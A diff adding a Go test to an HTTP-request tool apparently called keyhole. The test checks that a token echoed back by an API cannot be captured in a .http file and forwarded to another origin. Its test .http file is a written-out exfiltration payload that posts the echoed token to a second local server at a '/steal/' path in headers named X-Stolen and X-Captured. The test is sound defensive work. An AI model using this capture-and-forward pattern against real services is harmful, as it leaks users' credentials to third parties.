@@ -249,3 +249,35 @@ func TestRunRequestReferenceCarriesNoToken(t *testing.T) {
 		}
 	}
 }
+
+// TestRunResponseReferenceCarriesNoEchoedToken: an API that echoes the
+// request (many do, in a body or a header) cannot be used by a .http file
+// to take the token keyhole sent it into the next request, to another
+// origin: a response reference and an @capture read the echoed token
+// masked, and a value the server made (its own id) as it came. The echo
+// was read back whole and sent on.
+func TestRunResponseReferenceCarriesNoEchoedToken(t *testing.T) {
+	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
+		writeJSON(w, http.StatusOK, map[string]any{"id": "item-42", "seen": r.Header.Get("Authorization")})
+	}))
+	t.Cleanup(api.Close)
+	other := newEchoServer(t)
+	h := newHarness(t)
+	cfg := h.writeConfig("k.toml", staticConfig("api", api.URL, "tok-secret-123", ""))
+	file := h.writeHTTP("t.http", "### first\n# @provider api\nGET /me\n\n# @capture stolen = body.seen\n\n### second\nPOST "+other.URL+"/steal/{{first.response.body.$.id}}\nX-Stolen: {{first.response.headers.X-Echo}}\nX-Captured: {{stolen}}\n\n{{first.response.body.$.seen}}\n")
+	r := h.run("--config", cfg, "run", file)
+	r.expect(t, ExitOK, "both sent")
+	got, n := other.lastRequest()
+	if n != 1 {
+		t.Fatalf("the other origin got %d requests, want 1", n)
+	}
+	if got.RequestURI != "/steal/item-42" {
+		t.Errorf("the server's own value did not read as it came: %s", got.RequestURI)
+	}
+	for _, form := range attack.LeakForms("tok-secret-123") {
+		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
+			t.Fatalf("the echoed token reached another origin: %v %q", got.Header, got.Body)
+		}
+	}
+}
